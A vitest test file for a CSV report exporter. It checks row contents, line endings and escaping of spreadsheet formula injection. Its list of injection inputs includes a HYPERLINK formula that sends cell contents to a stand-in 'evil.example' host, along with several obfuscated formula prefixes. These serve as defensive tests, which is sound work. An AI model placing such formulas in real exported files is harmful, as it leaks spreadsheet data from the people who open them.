import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { createCsvReport } from '../../src/report/csv.ts';
import type { PageRecord } from '../../src/report/record.ts';
import { abstention, failure, quoting, reason, verdict } from './verdicts.ts';

function print(records: readonly PageRecord[], signals: readonly string[] = []): string {
  const report = createCsvReport({ signals });
  return report.begin() + records.map(report.page).join('') + report.end();
}

function rowsOf(records: readonly PageRecord[], signals: readonly string[] = []): Record<string, string>[] {
  return parse(print(records, signals), { columns: true, record_delimiter: '\r\n' });
}

/** The row of a verdict with this text in every place where a page can put words. */
function rowWith(text: string): Record<string, string> {
  const reasons = [reason('top', { title: text, evidence: quoting(text) })];
  const [row = {}] = rowsOf([
    verdict({ id: text, url: text, finalUrl: text, site: text, language: text, reasons }),
  ]);
  return row;
}

test('a row has the verdict, numbers with all their digits', () => {
  const url = 'https://example.com/a,b';
  expect(
    rowsOf([verdict({ url, finalUrl: 'https://example.org/', site: 'example.org', score: -4.125 })]),
  ).toEqual([
    {
      id: 'page.html',
      url,
      final_url: 'https://example.org/',
      site: 'example.org',
      label: 'farm',
      probability: '0.993',
      score: '-4.125',
      language: 'en',
      abstained: '',
      top_reason: 'Off-topic promotions inside the article',
      top_contribution: '1.84',
      top_quote: 'See also What is the most expensive laptop?',
      reasons: 'off-topic-promo-share +1.84; repeated-promo-share +0.40',
      error_code: '',
      error_message: '',
      model: 'page-html#3f9c2a1e',
      chaff: '0.1.0',
    },
  ]);
});

test('every page has a row', () => {
  const rows = rowsOf([abstention('too-short'), failure(), verdict({ reasons: [] })]);
  expect(rows[0]).toMatchObject({
    label: 'not-evaluated',
    abstained: 'too-short',
    probability: '',
    score: '',
  });
  expect(rows[1]).toMatchObject({
    id: 'https://example.com/a',
    label: '',
    error_code: 'http-status',
    error_message: 'the server answers with HTTP status 404',
  });
  expect(rows[2]).toMatchObject({
    label: 'farm',
    top_reason: '',
    top_contribution: '',
    top_quote: '',
    reasons: '',
  });
});

test('signals have a column each, empty where nothing was measured', () => {
  const ids = ['heading-count', 'inline-style-share', 'unknown'];
  const rows = rowsOf([verdict(), failure()], ids);
  expect(rows.map(row => ids.map(id => row[id]))).toEqual([
    ['7', '', ''],
    ['', '', ''],
  ]);
});

test('lines end in CR LF, and no line of a page ends one', () => {
  const printed = print([verdict({ id: 'one\r\ntwo "three", four' })]);
  expect(printed.split('\r\n')).toHaveLength(3);
  expect(printed.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  expect(printed).toContain('"one two ""three"", four"');
});

describe('a formula', () => {
  const PLACES = ['id', 'url', 'final_url', 'site', 'language', 'top_reason', 'top_quote'];
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '"=1+1',
    "'=1+1",
  ])('%j is only text in every column of text', formula => {
    const row = rowWith(formula);
    for (const place of PLACES) expect(row[place]).toMatch(/^'/);
  });

  test('is only text after a semicolon too, at which some settings part cells', () => {
    expect(rowWith('a;=1+1;\t@SUM(A1);b').top_quote).toBe("a;'=1+1;' @SUM(A1);b");
  });

  test('is no name for an innocent text', () => {
    for (const text of ['-', 'a=b', 'a; b', '1-2', 'me@example.com', '(+1)', '5 - 3 = 2']) {
      expect(rowWith(text).top_quote).toBe(text);
    }
  });

  test('is no name for a negative number', () => {
    expect(rowsOf([verdict({ score: -2 })])[0]?.score).toBe('-2');
  });
});

test('controls and hidden characters are removed', () => {
  expect(rowWith('a\u001b[31mb\u202ec\u0000d').id).toBe('a[31mbcd');
});
